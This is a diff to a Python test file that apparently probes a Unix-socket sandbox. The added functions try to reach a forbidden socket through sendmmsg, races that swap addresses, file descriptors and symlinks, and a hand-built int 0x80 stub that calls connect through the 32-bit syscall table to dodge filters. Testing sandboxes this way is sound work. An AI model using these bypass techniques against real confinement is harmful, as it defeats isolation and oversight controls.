@@ -32,14 +32,101 @@ def tell(address):
     s.connect(address)
     s.send(NONCE.encode())
 
-def late(path):
+def late(path, how=tell):
     """Asks for the socket, and talks to it when it is there."""
     open(W + '/ready', 'w').close()
     for _ in range(150):
         if os.path.exists(path):
-            return tell(path)
+            return how(path)
         time.sleep(0.02)
     raise OSError('it never came')
+
+def datagram():
+    return socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
+
+def local_address(path):
+    return struct.pack('=H', socket.AF_UNIX) + path.encode().ljust(108, b'\0')
+
+def send_many(s, path):
+    """`sendmmsg` with the name of a receiver."""
+    name, body = (ctypes.create_string_buffer(text) for text in (local_address(path), NONCE.encode()))
+    part = iov_struct(ctypes.addressof(body), len(NONCE))
+    head = struct.pack('@PIxxxxPNPNixxxxIxxxx', ctypes.addressof(name), 110, ctypes.addressof(part), 1, 0, 0, 0, 0)
+    print(libc.sendmmsg(s.fileno(), ctypes.create_string_buffer(head), 1, 0), ctypes.get_errno())
+
+def race(swap, attempt):
+    """Until the attempt wins, or for a second."""
+    over = time.time() + 1
+    def swapping():
+        while time.time() < over:
+            swap()
+    thread = threading.Thread(target=swapping)
+    thread.start()
+    while time.time() < over:
+        try:
+            if attempt():
+                over = 0
+        except OSError:
+            pass
+    thread.join()
+
+def own_server(path):
+    s = socket.socket(socket.AF_UNIX)
+    s.bind(path)
+    s.listen(4000)
+    return s
+
+def race_of_addresses(path):
+    """One address leads to a socket of its own and to the other in turn."""
+    own, names = own_server('own.sock'), [local_address(p) for p in ('own.sock', path)]
+    address = ctypes.create_string_buffer(110)
+    def attempt():
+        s = socket.socket(socket.AF_UNIX)
+        if libc.connect(s.fileno(), address, 110) == 0:
+            s.send(NONCE.encode())
+            return s.getpeername() == path
+    race(lambda: [ctypes.memmove(address, name, 110) for name in names], attempt)
+
+def race_of_descriptors(path):
+    """One descriptor is an internet socket and a local one in turn, and so is the address."""
+    tcp, local = socket.socket(), socket.socket(socket.AF_UNIX)
+    place = os.dup(tcp.fileno())
+    inner = (struct.pack('=H', 2) + struct.pack('!H', 9) + b'\x7f\0\0\1').ljust(110, b'\0')
+    address = ctypes.create_string_buffer(110)
+    def swap():
+        for fd, name in ((tcp.fileno(), inner), (local.fileno(), local_address(path))):
+            os.dup2(fd, place)
+            ctypes.memmove(address, name, 110)
+    def attempt():
+        libc.connect(place, address, 110)
+        return local.send(NONCE.encode())
+    race(swap, attempt)
+
+def race_of_ways(path):
+    """A link leads to a directory of its own and to the other in turn."""
+    os.mkdir('in')
+    own, (directory, name) = own_server('in/' + os.path.basename(path)), os.path.split(path)
+    def swap():
+        for target in ('in', directory):
+            os.symlink(target, 'next')
+            os.rename('next', 'way')
+    def attempt():
+        s = socket.socket(socket.AF_UNIX)
+        s.connect('way/' + name)
+        s.send(NONCE.encode())
+        return s.getpeername() == path
+    race(swap, attempt)
+
+def thirty_two_bit_connect(path):
+    """`connect` by int 0x80: the table of 32-bit calls, whose filters are others."""
+    s = socket.socket(socket.AF_UNIX)
+    libc.mmap.restype = ctypes.c_void_p
+    low = libc.mmap(None, 4096, 7, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, -1, 0)
+    ctypes.memmove(low, local_address(path), 110)
+    code = b'\x53\xb8' + struct.pack('<I', 362) + b'\xbb' + struct.pack('<I', s.fileno()) + b'\xb9' + struct.pack('<I', low) + b'\xba' + struct.pack('<I', 110) + b'\xcd\x80\x5b\xc3'
+    ctypes.memmove(low + 128, code, len(code))
+    print(ctypes.CFUNCTYPE(ctypes.c_int)(low + 128)())
+    s.send(NONCE.encode())
 
 class iov_struct(ctypes.Structure):
     _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
